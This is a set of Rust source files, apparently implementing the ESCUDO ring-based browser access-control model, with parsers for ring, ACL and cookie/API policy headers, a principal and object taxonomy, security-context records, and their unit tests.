    /// attributes are ignored; malformed ESCUDO attributes are reported so the browser
    /// can fall back to fail-safe defaults (and log the problem) rather than guess.
    ///
    /// # Errors
    ///
    /// Returns the first [`ConfigError`] encountered (invalid ring, ACL, or nonce).
    pub fn parse<'a, I, S>(attributes: I) -> Result<Self, ConfigError>
    where
        I: IntoIterator<Item = (&'a str, S)>,
        S: AsRef<str>,
    {
        let mut out = AcAttributes::default();
        for (name, value) in attributes {
            let value = value.as_ref();
            match name.to_ascii_lowercase().as_str() {
                "ring" => out.ring = Some(value.parse()?),
                "r" => {
                    out.read = Some(
                        value
                            .parse()
                            .map_err(|_| ConfigError::InvalidAcl(value.into()))?,
                    )
                }
                "w" => {
                    out.write = Some(
                        value
                            .parse()
                            .map_err(|_| ConfigError::InvalidAcl(value.into()))?,
                    )
                }
                "x" => {
                    out.use_ = Some(
                        value
                            .parse()
                            .map_err(|_| ConfigError::InvalidAcl(value.into()))?,
                    )
                }
                "nonce" => out.nonce = Some(value.parse()?),
                _ => {}
            }
        }
        Ok(out)
    }

    /// `true` when the element declares any ESCUDO ring/ACL information (i.e. is an AC
    /// tag in the paper's sense). A bare `nonce` does not make an AC tag by itself.
    #[must_use]
    pub fn is_ac_tag(&self) -> bool {
        self.ring.is_some() || self.read.is_some() || self.write.is_some() || self.use_.is_some()
    }

    /// The declared ACL, if any of `r`/`w`/`x` are present. Missing entries take the
    /// fail-safe value (ring 0 only), per the paper's defaults.
    #[must_use]
    pub fn declared_acl(&self) -> Option<Acl> {
        if self.read.is_none() && self.write.is_none() && self.use_.is_none() {
            return None;
        }
        Some(Acl::new(
            self.read.unwrap_or(Ring::INNERMOST),
            self.write.unwrap_or(Ring::INNERMOST),
            self.use_.unwrap_or(Ring::INNERMOST),
        ))
    }

    /// Resolves the declared attributes against a parent scope: applies the scoping
    /// rule to the ring and clamps/defaults the ACL.
    #[must_use]
    pub fn resolve(&self, parent_ring: Ring) -> ResolvedLabel {
        let ring = scoping::effective_ring(parent_ring, self.ring);
        let acl = scoping::effective_acl(ring, self.declared_acl());
        ResolvedLabel { ring, acl }
    }

    /// Serializes the attributes back to `name="value"` pairs in canonical order —
    /// used by the server-side page generators.
    #[must_use]
    pub fn to_attribute_pairs(&self) -> Vec<(String, String)> {
        let mut pairs = Vec::new();
        if let Some(ring) = self.ring {
            pairs.push(("ring".to_string(), ring.level().to_string()));
        }
        if let Some(r) = self.read {
            pairs.push(("r".to_string(), r.level().to_string()));
        }
        if let Some(w) = self.write {
            pairs.push(("w".to_string(), w.level().to_string()));
        }
        if let Some(x) = self.use_ {
            pairs.push(("x".to_string(), x.level().to_string()));
        }
        if let Some(nonce) = self.nonce {
            pairs.push(("nonce".to_string(), nonce.to_string()));
        }
        pairs
    }
}

/// A ring + ACL pair after defaults and the scoping rule have been applied.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ResolvedLabel {
    /// The effective ring.
    pub ring: Ring,
    /// The effective ACL.
    pub acl: Acl,
}

/// The native-code APIs whose invocation ESCUDO gates.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum NativeApi {
    /// The `XMLHttpRequest` API used by AJAX code to talk to the server.
    XmlHttpRequest,
    /// The DOM API (`document.getElementById`, `createElement`, …).
    DomApi,
    /// `document.cookie` — the scripting interface to the cookie store.
    CookieApi,
    /// The history / visited-link interface (browser state, always ring 0).
    History,
}

impl NativeApi {
    /// All gated APIs.
    pub const ALL: [NativeApi; 4] = [
        NativeApi::XmlHttpRequest,
        NativeApi::DomApi,
        NativeApi::CookieApi,
        NativeApi::History,
    ];

    /// The identifier used in the `X-Escudo-Api-Policy` header.
    #[must_use]
    pub const fn header_name(self) -> &'static str {
        match self {
            NativeApi::XmlHttpRequest => "xmlhttprequest",
            NativeApi::DomApi => "dom",
            NativeApi::CookieApi => "cookie",
            NativeApi::History => "history",
        }
    }

    /// Parses an API identifier as used in the header.
    #[must_use]
    pub fn from_header_name(name: &str) -> Option<Self> {
        match name.trim().to_ascii_lowercase().as_str() {
            "xmlhttprequest" | "xhr" => Some(NativeApi::XmlHttpRequest),
            "dom" | "domapi" => Some(NativeApi::DomApi),
            "cookie" | "cookies" => Some(NativeApi::CookieApi),
            "history" => Some(NativeApi::History),
            _ => None,
        }
    }
}

impl fmt::Display for NativeApi {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.header_name())
    }
}

/// A per-cookie ESCUDO policy communicated via [`COOKIE_POLICY_HEADER`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CookiePolicy {
    /// The cookie name this policy applies to (`*` matches every cookie).
    pub name: String,
    /// The ring the cookie is assigned to.
    pub ring: Ring,
    /// The cookie's ACL (bounds on explicit read/write via `document.cookie` and on
    /// implicit use, i.e. attachment to outgoing requests).
    pub acl: Acl,
}

impl CookiePolicy {
    /// Creates a policy whose ACL uniformly admits rings up to the cookie's ring.
    #[must_use]
    pub fn new(name: impl Into<String>, ring: Ring) -> Self {
        CookiePolicy {
            name: name.into(),
            ring,
            acl: Acl::uniform(ring),
        }
    }

    /// Sets an explicit ACL (builder style); it is clamped to the cookie's ring.
    #[must_use]
    pub fn with_acl(mut self, acl: Acl) -> Self {
        self.acl = acl.clamped_to_ring(self.ring);
        self
    }

    /// `true` when the policy applies to the given cookie name.
    #[must_use]
    pub fn applies_to(&self, cookie_name: &str) -> bool {
        self.name == "*" || self.name == cookie_name
    }

    /// Serializes the policy as a header value.
    #[must_use]
    pub fn to_header_value(&self) -> String {
        format!(
            "name={}; ring={}; r={}; w={}; x={}",
            self.name,
            self.ring.level(),
            self.acl.read.level(),
            self.acl.write.level(),
            self.acl.use_.level()
        )
    }
}

impl FromStr for CookiePolicy {
    type Err = ConfigError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let fields = parse_directive_fields(s, COOKIE_POLICY_HEADER)?;
        let name = fields
            .iter()
            .find(|(k, _)| k == "name")
            .map(|(_, v)| v.clone())
            .ok_or_else(|| ConfigError::InvalidHeader {
                header: COOKIE_POLICY_HEADER.to_string(),
                reason: "missing `name=` field".to_string(),
            })?;
        let ring = lookup_ring(&fields, "ring")?.unwrap_or(Ring::INNERMOST);
        let read = lookup_ring(&fields, "r")?.unwrap_or(ring);
        let write = lookup_ring(&fields, "w")?.unwrap_or(ring);
        let use_ = lookup_ring(&fields, "x")?.unwrap_or(ring);
        Ok(CookiePolicy {
            name,
            ring,
            acl: Acl::new(read, write, use_).clamped_to_ring(ring),
        })
    }
}

impl fmt::Display for CookiePolicy {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.to_header_value())
    }
}

/// A native-API ESCUDO policy communicated via [`API_POLICY_HEADER`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ApiPolicy {
    /// The API being labelled.
    pub api: NativeApi,
    /// The least-privileged ring allowed to invoke the API. (By the fail-safe default,
    /// absent a header every API is assigned to ring 0.)
    pub ring: Ring,
}

impl ApiPolicy {
    /// Creates an API policy.
    #[must_use]
    pub const fn new(api: NativeApi, ring: Ring) -> Self {
        ApiPolicy { api, ring }
    }

    /// Serializes the policy as a header value.
    #[must_use]
    pub fn to_header_value(&self) -> String {
        format!("api={}; ring={}", self.api.header_name(), self.ring.level())
    }
}

impl FromStr for ApiPolicy {
    type Err = ConfigError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let fields = parse_directive_fields(s, API_POLICY_HEADER)?;
        let api_name = fields
            .iter()
            .find(|(k, _)| k == "api")
            .map(|(_, v)| v.clone())
            .ok_or_else(|| ConfigError::InvalidHeader {
                header: API_POLICY_HEADER.to_string(),
                reason: "missing `api=` field".to_string(),
            })?;
        let api =
            NativeApi::from_header_name(&api_name).ok_or_else(|| ConfigError::InvalidHeader {
                header: API_POLICY_HEADER.to_string(),
                reason: format!("unknown api `{api_name}`"),
            })?;
        let ring = lookup_ring(&fields, "ring")?.unwrap_or(Ring::INNERMOST);
        Ok(ApiPolicy { api, ring })
    }
}

impl fmt::Display for ApiPolicy {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.to_header_value())
    }
}

/// Splits a `k=v; k=v; …` header value into its fields.
fn parse_directive_fields(s: &str, header: &str) -> Result<Vec<(String, String)>, ConfigError> {
    let mut fields = Vec::new();
    for part in s.split(';') {
        let part = part.trim();
        if part.is_empty() {
            continue;
        }
        let (k, v) = part
            .split_once('=')
            .ok_or_else(|| ConfigError::InvalidHeader {
                header: header.to_string(),
                reason: format!("field `{part}` is not of the form key=value"),
            })?;
        fields.push((k.trim().to_ascii_lowercase(), v.trim().to_string()));
    }
    if fields.is_empty() {
        return Err(ConfigError::InvalidHeader {
            header: header.to_string(),
            reason: "empty header value".to_string(),
        });
    }
    Ok(fields)
}

fn lookup_ring(fields: &[(String, String)], key: &str) -> Result<Option<Ring>, ConfigError> {
    match fields.iter().find(|(k, _)| k == key) {
        Some((_, v)) => Ok(Some(v.parse()?)),
        None => Ok(None),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::operation::Operation;

    #[test]
    fn parses_the_figure_2_example() {
        // <div ring=2 r=1 w=0 x=2>
        let attrs = AcAttributes::parse([
            ("ring", "2"),
            ("r", "1"),
            ("w", "0"),
            ("x", "2"),
            ("class", "post"),
        ])
        .unwrap();
        assert!(attrs.is_ac_tag());
        assert_eq!(attrs.ring, Some(Ring::new(2)));
        assert_eq!(
            attrs.declared_acl(),
            Some(Acl::new(Ring::new(1), Ring::new(0), Ring::new(2)))
        );
    }

    #[test]
    fn non_ac_attributes_are_ignored() {
        let attrs = AcAttributes::parse([("class", "post"), ("id", "main")]).unwrap();
        assert!(!attrs.is_ac_tag());
        assert_eq!(attrs, AcAttributes::default());
    }

    #[test]
    fn nonce_alone_is_not_an_ac_tag() {
        let attrs = AcAttributes::parse([("nonce", "1234")]).unwrap();
        assert!(!attrs.is_ac_tag());
        assert_eq!(attrs.nonce, Some(Nonce::from_raw(1234)));
    }

    #[test]
    fn malformed_ring_is_an_error() {
        assert!(AcAttributes::parse([("ring", "kernel")]).is_err());
        assert!(AcAttributes::parse([("r", "-1")]).is_err());
        assert!(AcAttributes::parse([("nonce", "0xff")]).is_err());
    }

    #[test]
    fn partial_acl_defaults_missing_entries_to_ring_zero() {
        let attrs = AcAttributes::parse([("ring", "3"), ("w", "2")]).unwrap();
        let acl = attrs.declared_acl().unwrap();
        assert_eq!(acl.write, Ring::new(2));
        assert_eq!(acl.read, Ring::INNERMOST);
        assert_eq!(acl.use_, Ring::INNERMOST);
    }

    #[test]
    fn resolve_applies_scoping_and_defaults() {
        // Inner scope declares a *more* privileged ring than its parent: clamped.
        let attrs = AcAttributes::parse([("ring", "0")]).unwrap();
        let resolved = attrs.resolve(Ring::new(2));
        assert_eq!(resolved.ring, Ring::new(2));
        // No ACL declared: fail-safe r=0,w=0,x=0.
        assert_eq!(resolved.acl, Acl::ring_zero_only());

        // No ring declared: inherit the parent.
        let attrs = AcAttributes::parse([("r", "3"), ("w", "3"), ("x", "3")]).unwrap();
        let resolved = attrs.resolve(Ring::new(1));
        assert_eq!(resolved.ring, Ring::new(1));
        // Declared ACL is clamped to the effective ring.
        assert_eq!(resolved.acl, Acl::uniform(Ring::new(1)));
    }

    #[test]
    fn attribute_pairs_roundtrip() {
        let attrs = AcAttributes {
            ring: Some(Ring::new(2)),
            read: Some(Ring::new(1)),
            write: Some(Ring::new(0)),
            use_: Some(Ring::new(2)),
            nonce: Some(Nonce::from_raw(99)),
        };
        let pairs = attrs.to_attribute_pairs();
        let reparsed =
            AcAttributes::parse(pairs.iter().map(|(k, v)| (k.as_str(), v.as_str()))).unwrap();
        assert_eq!(reparsed, attrs);
    }

    #[test]
    fn cookie_policy_header_roundtrip() {
        let policy = CookiePolicy::new("phpbb2mysql_sid", Ring::new(1));
        let value = policy.to_header_value();
        assert_eq!(value, "name=phpbb2mysql_sid; ring=1; r=1; w=1; x=1");
        let parsed: CookiePolicy = value.parse().unwrap();
        assert_eq!(parsed, policy);
    }

    #[test]
    fn cookie_policy_defaults_acl_to_ring() {
        let parsed: CookiePolicy = "name=sid; ring=2".parse().unwrap();
        assert_eq!(parsed.ring, Ring::new(2));
        assert_eq!(parsed.acl, Acl::uniform(Ring::new(2)));
    }

    #[test]
    fn cookie_policy_acl_cannot_be_looser_than_ring() {
        let parsed: CookiePolicy = "name=sid; ring=1; r=5; w=5; x=5".parse().unwrap();
        assert_eq!(parsed.acl, Acl::uniform(Ring::new(1)));
    }

    #[test]
    fn cookie_policy_wildcard_matches_everything() {
        let policy: CookiePolicy = "name=*; ring=0".parse().unwrap();
        assert!(policy.applies_to("anything"));
        let named: CookiePolicy = "name=sid; ring=0".parse().unwrap();
        assert!(named.applies_to("sid"));
        assert!(!named.applies_to("other"));
    }

    #[test]
    fn cookie_policy_requires_a_name() {
        assert!("ring=1".parse::<CookiePolicy>().is_err());
        assert!("".parse::<CookiePolicy>().is_err());
        assert!("name".parse::<CookiePolicy>().is_err());
    }

    #[test]
    fn api_policy_roundtrip_and_aliases() {
        let policy = ApiPolicy::new(NativeApi::XmlHttpRequest, Ring::new(1));
        let parsed: ApiPolicy = policy.to_header_value().parse().unwrap();
        assert_eq!(parsed, policy);
        let parsed: ApiPolicy = "api=xhr; ring=2".parse().unwrap();
        assert_eq!(parsed.api, NativeApi::XmlHttpRequest);
        assert_eq!(parsed.ring, Ring::new(2));
        assert!("api=telepathy; ring=0".parse::<ApiPolicy>().is_err());
        assert!("ring=0".parse::<ApiPolicy>().is_err());
    }

    #[test]
    fn api_policy_defaults_to_ring_zero() {
        let parsed: ApiPolicy = "api=dom".parse().unwrap();
        assert_eq!(parsed.ring, Ring::INNERMOST);
    }

    #[test]
    fn ac_attribute_parser_never_panics() {
        let names = ["ring", "r", "w", "x", "nonce", "zzz", "", "RING"];
        let values = [
            "",
            "0",
            "3",
            "-1",
            "abc",
            "65536",
            "  2  ",
            "\u{0}",
            "1.5",
            "🦀",
            "9999999999",
        ];
        for name in names {
            for value in values {
                let _ = AcAttributes::parse([(name, value)]);
                let _ = AcAttributes::parse([(name, value), ("ring", "2"), (name, value)]);
            }
        }
        let _ = AcAttributes::parse(std::iter::empty::<(&str, &str)>());
    }

    #[test]
    fn cookie_policy_roundtrips_for_valid_inputs() {
        let names = [
            "sid",
            "phpbb2mysql_sid",
            "_x",
            "A9",
            "name_with_underscores",
        ];
        for name in names {
            for ring in 0u16..10 {
                for acl_base in 0u16..10 {
                    let policy = CookiePolicy::new(name, Ring::new(ring)).with_acl(Acl::new(
                        Ring::new(acl_base),
                        Ring::new((acl_base + 3) % 10),
                        Ring::new((acl_base + 7) % 10),
                    ));
                    let parsed: CookiePolicy = policy.to_header_value().parse().unwrap();
                    assert_eq!(parsed, policy);
                }
            }
        }
    }

    #[test]
    fn resolve_never_escapes_the_parent_ring() {
        let options =
            |limit: u16| std::iter::once(None).chain((0..limit).map(|v| Some(Ring::new(v))));
        for parent in 0u16..20 {
            for ring in options(20) {
                for read in options(20) {
                    let attrs = AcAttributes {
                        ring,
                        read,
                        write: None,
                        use_: None,
                        nonce: None,
                    };
                    let resolved = attrs.resolve(Ring::new(parent));
                    assert!(Ring::new(parent).is_at_least_as_privileged_as(resolved.ring));
                    for op in Operation::ALL {
                        assert!(
                            resolved
                                .acl
                                .bound(op)
                                .is_at_least_as_privileged_as(resolved.ring)
                                || resolved.acl.bound(op) == resolved.ring
                        );
                    }
                }
            }
        }
    }
}
