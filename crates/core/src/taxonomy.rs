//! The principal/object taxonomy of the paper's Table 1, expressed as data so the
//! experiment harness can regenerate the table from the implemented model.

use crate::context::{ObjectKind, PrincipalKind};

/// Whether an entry of Table 1 is a principal, an object, or can act as both.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Role {
    /// Acts only as a principal.
    Principal,
    /// Acts only as an object.
    Object,
    /// Acts as both (DOM elements: principals when instantiated, objects when targeted
    /// through the DOM API).
    Both,
}

/// One row of the Table 1 inventory.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TaxonomyEntry {
    /// The category heading used in the paper.
    pub category: &'static str,
    /// The concrete entity.
    pub entity: &'static str,
    /// Principal, object, or both.
    pub role: Role,
    /// Whether web applications can control this entity through ESCUDO configuration.
    pub controllable_by_application: bool,
    /// The model type this entity maps to in this implementation.
    pub principal_kind: Option<PrincipalKind>,
    /// The model type this entity maps to in this implementation.
    pub object_kind: Option<ObjectKind>,
}

/// The full Table 1 inventory: principals and objects inside the web browser.
#[must_use]
pub fn table1() -> Vec<TaxonomyEntry> {
    use ObjectKind as O;
    use PrincipalKind as P;
    vec![
        // HTTP-request issuing principals.
        entry(
            "HTTP-request issuing principals",
            "HTML form",
            Role::Both,
            true,
            Some(P::RequestIssuer),
            Some(O::DomElement),
        ),
        entry(
            "HTTP-request issuing principals",
            "HTML anchor",
            Role::Both,
            true,
            Some(P::RequestIssuer),
            Some(O::DomElement),
        ),
        entry(
            "HTTP-request issuing principals",
            "HTML img",
            Role::Both,
            true,
            Some(P::RequestIssuer),
            Some(O::DomElement),
        ),
        entry(
            "HTTP-request issuing principals",
            "HTML iframe",
            Role::Both,
            true,
            Some(P::RequestIssuer),
            Some(O::DomElement),
        ),
        entry(
            "HTTP-request issuing principals",
            "HTML embed",
            Role::Both,
            true,
            Some(P::RequestIssuer),
            Some(O::DomElement),
        ),
        // Script-invoking principals.
        entry(
            "Script-invoking principals",
            "JavaScript programs",
            Role::Both,
            true,
            Some(P::Script),
            Some(O::DomElement),
        ),
        entry(
            "Script-invoking principals",
            "UI event handlers",
            Role::Principal,
            true,
            Some(P::EventHandler),
            None,
        ),
        // Plugins: outside the application's control, listed for completeness.
        entry(
            "Plugins",
            "Plugins / extensions (Flash, PDF, …)",
            Role::Principal,
            false,
            None,
            None,
        ),
        // Objects.
        entry(
            "Objects",
            "Document object model (DOM)",
            Role::Object,
            true,
            None,
            Some(O::DomElement),
        ),
        entry(
            "Objects",
            "Cookies",
            Role::Object,
            true,
            None,
            Some(O::Cookie),
        ),
        entry(
            "Objects",
            "XMLHttpRequest API",
            Role::Object,
            true,
            None,
            Some(O::NativeApi),
        ),
        entry(
            "Objects",
            "DOM API",
            Role::Object,
            true,
            None,
            Some(O::NativeApi),
        ),
        entry(
            "Objects",
            "Browser history",
            Role::Object,
            false,
            None,
            Some(O::BrowserState),
        ),
        entry(
            "Objects",
            "Visited-link information",
            Role::Object,
            false,
            None,
            Some(O::BrowserState),
        ),
    ]
}

fn entry(
    category: &'static str,
    entity: &'static str,
    role: Role,
    controllable_by_application: bool,
    principal_kind: Option<PrincipalKind>,
    object_kind: Option<ObjectKind>,
) -> TaxonomyEntry {
    TaxonomyEntry {
        category,
        entity,
        role,
        controllable_by_application,
        principal_kind,
        object_kind,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table1_covers_all_paper_categories() {
        let table = table1();
        let categories: Vec<&str> = table.iter().map(|e| e.category).collect();
        for expected in [
            "HTTP-request issuing principals",
            "Script-invoking principals",
            "Plugins",
            "Objects",
        ] {
            assert!(
                categories.contains(&expected),
                "missing category {expected}"
            );
        }
    }

    #[test]
    fn request_issuing_principals_match_the_paper_list() {
        let table = table1();
        let issuers: Vec<&str> = table
            .iter()
            .filter(|e| e.principal_kind == Some(PrincipalKind::RequestIssuer))
            .map(|e| e.entity)
            .collect();
        for tag in [
            "HTML form",
            "HTML anchor",
            "HTML img",
            "HTML iframe",
            "HTML embed",
        ] {
            assert!(issuers.contains(&tag), "missing {tag}");
        }
    }

    #[test]
    fn plugins_are_not_controllable_by_applications() {
        let table = table1();
        let plugins: Vec<&TaxonomyEntry> =
            table.iter().filter(|e| e.category == "Plugins").collect();
        assert!(!plugins.is_empty());
        assert!(plugins.iter().all(|e| !e.controllable_by_application));
    }

    #[test]
    fn browser_state_objects_are_present_and_uncontrollable() {
        let table = table1();
        let state: Vec<&TaxonomyEntry> = table
            .iter()
            .filter(|e| e.object_kind == Some(ObjectKind::BrowserState))
            .collect();
        assert_eq!(state.len(), 2);
        assert!(state.iter().all(|e| !e.controllable_by_application));
    }

    #[test]
    fn dom_elements_act_as_both_principals_and_objects() {
        let table = table1();
        let both = table.iter().filter(|e| e.role == Role::Both).count();
        assert!(both >= 6, "DOM elements and scripts should be dual-role");
    }
}
