//! Security contexts — the per-principal and per-object records the browser extracts
//! from the application's configuration and tracks internally.
//!
//! The prototype in the paper "maintains a security context derived from the
//! configuration information provided by the application, tracks it through the
//! browser, and makes it available whenever a principal makes a request". These are
//! those records, kept deliberately outside the DOM so scripts can never observe or
//! mutate them.

use std::fmt;

use crate::acl::Acl;
use crate::operation::Operation;
use crate::origin::Origin;
use crate::ring::Ring;

/// The kind of principal attempting an access (Table 1, left column).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum PrincipalKind {
    /// A JavaScript program (inline `<script>`, external script, or `javascript:` URL).
    Script,
    /// A UI event handler (`onclick`, `onload`, …) — script-invoking, but delivered by
    /// the browser in response to a user event.
    EventHandler,
    /// An HTTP-request-issuing HTML element: `a`, `img`, `form`, `iframe`, `embed`.
    RequestIssuer,
    /// The browser itself (chrome) acting on its own behalf — e.g. rendering, or the
    /// user navigating via the address bar. Always maximally privileged.
    Browser,
}

impl fmt::Display for PrincipalKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            PrincipalKind::Script => "script",
            PrincipalKind::EventHandler => "event handler",
            PrincipalKind::RequestIssuer => "request-issuing element",
            PrincipalKind::Browser => "browser",
        };
        f.write_str(s)
    }
}

/// The kind of object being accessed (Table 1, right column).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ObjectKind {
    /// A DOM element (or subtree) of the web page.
    DomElement,
    /// A cookie stored for the page's site.
    Cookie,
    /// A native-code API exposed to scripts (XMLHttpRequest, the DOM API itself).
    NativeApi,
    /// Browser state: history, visited-link information, cache.
    BrowserState,
}

impl fmt::Display for ObjectKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            ObjectKind::DomElement => "DOM element",
            ObjectKind::Cookie => "cookie",
            ObjectKind::NativeApi => "native API",
            ObjectKind::BrowserState => "browser state",
        };
        f.write_str(s)
    }
}

/// The security context of a principal: who it is, where it came from, and which ring
/// it executes in.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PrincipalContext {
    /// What kind of principal this is.
    pub kind: PrincipalKind,
    /// The origin that instantiated the principal.
    pub origin: Origin,
    /// The ring the principal executes in.
    pub ring: Ring,
    /// A human-readable description used in audit logs and deny reasons
    /// (e.g. `"inline script #3"`, `"img src=http://evil/…"`).
    pub label: String,
}

impl PrincipalContext {
    /// Creates a principal context with an empty label.
    #[must_use]
    pub fn new(kind: PrincipalKind, origin: Origin, ring: Ring) -> Self {
        PrincipalContext {
            kind,
            origin,
            ring,
            label: String::new(),
        }
    }

    /// Attaches a human-readable label (builder style).
    #[must_use]
    pub fn with_label(mut self, label: impl Into<String>) -> Self {
        self.label = label.into();
        self
    }

    /// A maximally privileged browser-chrome principal for the given origin.
    ///
    /// The browser itself (rendering, user navigation) is not constrained by the
    /// application's rings; it corresponds to the trusted computing base.
    #[must_use]
    pub fn browser(origin: Origin) -> Self {
        PrincipalContext::new(PrincipalKind::Browser, origin, Ring::INNERMOST)
            .with_label("browser chrome")
    }
}

impl fmt::Display for PrincipalContext {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} in {} from {}", self.kind, self.ring, self.origin)?;
        if !self.label.is_empty() {
            write!(f, " ({})", self.label)?;
        }
        Ok(())
    }
}

/// The security context of an object: its origin, its ring, and its (optional) ACL.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ObjectContext {
    /// What kind of object this is.
    pub kind: ObjectKind,
    /// The origin the object belongs to.
    pub origin: Origin,
    /// The ring the object is assigned to.
    pub ring: Ring,
    /// The object's ACL. When the application provides no ACL the object is governed
    /// by the ring rule alone, which we represent with a fully permissive ACL.
    pub acl: Acl,
    /// A human-readable description used in audit logs (e.g. `"cookie phpbb2mysql_sid"`).
    pub label: String,
}

impl ObjectContext {
    /// Creates an object context with no explicit ACL (ring rule only).
    #[must_use]
    pub fn new(kind: ObjectKind, origin: Origin, ring: Ring) -> Self {
        ObjectContext {
            kind,
            origin,
            ring,
            acl: Acl::permissive(),
            label: String::new(),
        }
    }

    /// Sets the ACL (builder style). The ACL is clamped so it can never be more
    /// permissive than the object's ring — the paper notes such an ACL would be
    /// ineffective anyway because the ring rule also applies.
    #[must_use]
    pub fn with_acl(mut self, acl: Acl) -> Self {
        self.acl = acl.clamped_to_ring(self.ring);
        self
    }

    /// Attaches a human-readable label (builder style).
    #[must_use]
    pub fn with_label(mut self, label: impl Into<String>) -> Self {
        self.label = label.into();
        self
    }

    /// The fail-safe context for unlabeled DOM content: least-privileged ring with a
    /// ring-0-only ACL ("if a ring specification is missing, ESCUDO assumes a safe
    /// default value").
    #[must_use]
    pub fn fail_safe_dom(origin: Origin) -> Self {
        ObjectContext::new(ObjectKind::DomElement, origin, Ring::OUTERMOST)
            .with_acl(Acl::ring_zero_only())
    }

    /// The mandatory context for browser state (history, visited links): ring 0, not
    /// configurable by the application.
    #[must_use]
    pub fn browser_state(origin: Origin) -> Self {
        ObjectContext::new(ObjectKind::BrowserState, origin, Ring::INNERMOST)
            .with_acl(Acl::ring_zero_only())
            .with_label("browser state")
    }

    /// The least-privileged ring allowed to perform `op` on this object, considering
    /// both the ring and the ACL.
    #[must_use]
    pub fn effective_bound(&self, op: Operation) -> Ring {
        self.acl.bound(op).most_privileged(self.ring)
    }
}

impl fmt::Display for ObjectContext {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} in {} ({}) from {}",
            self.kind, self.ring, self.acl, self.origin
        )?;
        if !self.label.is_empty() {
            write!(f, " ({})", self.label)?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn origin() -> Origin {
        Origin::new("http", "app.example", 80)
    }

    #[test]
    fn with_acl_clamps_to_the_objects_ring() {
        // Object in ring 2 declaring an ACL that would admit ring 5 for writes:
        // the stored ACL must not admit anything beyond ring 2.
        let ctx = ObjectContext::new(ObjectKind::DomElement, origin(), Ring::new(2))
            .with_acl(Acl::new(Ring::new(5), Ring::new(5), Ring::new(1)));
        assert_eq!(ctx.acl.read, Ring::new(2));
        assert_eq!(ctx.acl.write, Ring::new(2));
        assert_eq!(ctx.acl.use_, Ring::new(1));
    }

    #[test]
    fn fail_safe_dom_defaults() {
        let ctx = ObjectContext::fail_safe_dom(origin());
        assert_eq!(ctx.ring, Ring::OUTERMOST);
        assert_eq!(ctx.acl, Acl::ring_zero_only());
    }

    #[test]
    fn browser_state_is_ring_zero() {
        let ctx = ObjectContext::browser_state(origin());
        assert_eq!(ctx.ring, Ring::INNERMOST);
        assert_eq!(ctx.kind, ObjectKind::BrowserState);
    }

    #[test]
    fn browser_principal_is_maximally_privileged() {
        let p = PrincipalContext::browser(origin());
        assert_eq!(p.ring, Ring::INNERMOST);
        assert_eq!(p.kind, PrincipalKind::Browser);
    }

    #[test]
    fn effective_bound_combines_ring_and_acl() {
        let ctx = ObjectContext::new(ObjectKind::Cookie, origin(), Ring::new(1))
            .with_acl(Acl::uniform(Ring::new(1)));
        assert_eq!(ctx.effective_bound(Operation::Use), Ring::new(1));

        let strict = ObjectContext::new(ObjectKind::Cookie, origin(), Ring::new(3))
            .with_acl(Acl::uniform(Ring::new(2)));
        assert_eq!(strict.effective_bound(Operation::Read), Ring::new(2));
    }

    #[test]
    fn display_mentions_ring_and_origin() {
        let p = PrincipalContext::new(PrincipalKind::Script, origin(), Ring::new(3))
            .with_label("user comment script");
        let s = p.to_string();
        assert!(s.contains("ring 3"));
        assert!(s.contains("app.example"));
        assert!(s.contains("user comment script"));
    }
}
