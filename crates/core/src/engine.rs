//! The pluggable policy engine: one decision core shared by every enforcement point.
//!
//! The paper's prototype spreads the ESCUDO Reference Monitor "over several places
//! because the places to embed the checks is specific to the object type". That is
//! fine for *enforcement* — the checks must live where the objects live — but the
//! *decision procedure* itself should exist exactly once, behind one interface, so it
//! can be shared, swapped and accelerated independently of the enforcement points
//! (WebSpec argues for a single machine-checkable decision core; WebPol shows
//! fine-grained policies only scale when evaluation is factored out of enforcement).
//!
//! This module provides that factoring:
//!
//! * [`PolicyEngine`] — the trait every decision core implements: [`decide`]
//!   (one mediation) and [`decide_many`] (batch mediation: engines with shared
//!   locked state may acquire it once per batch; the lock-free production
//!   engine simply streams the slice through its wait-free resolve),
//! * [`EscudoEngine`] — the production engine: it **interns** principal and object
//!   contexts into small integer ids ([`PrincipalId`], [`ObjectId`]) via the
//!   lock-free [`ContextInterner`], and **memoizes** decisions in a **sharded** hash
//!   cache keyed on `(principal_id, object_id, operation)` so hot DOM/event paths
//!   skip the origin/ring/ACL recomputation entirely,
//! * [`SameOriginEngine`] — the legacy same-origin baseline behind the same trait,
//! * [`engine_for_mode`] — the factory the browser uses to pick an engine.
//!
//! Both engines take `&self` and are `Send + Sync`, so one engine can be shared by
//! every page of a browsing session (or every session of a multi-tenant server) via
//! `Arc<dyn PolicyEngine>`.
//!
//! # Concurrency architecture
//!
//! The engine is **lock-free on the interning path and lock-striped on the cache
//! path**, so concurrent sessions never serialize on any global lock:
//!
//! * contexts intern through a [`ContextInterner`] — an append-only, lock-free
//!   bucket table ([`crate::interner::AtomicInterner`]): warm lookups are a
//!   wait-free walk of published slots, and first-touch interning is a CAS-append
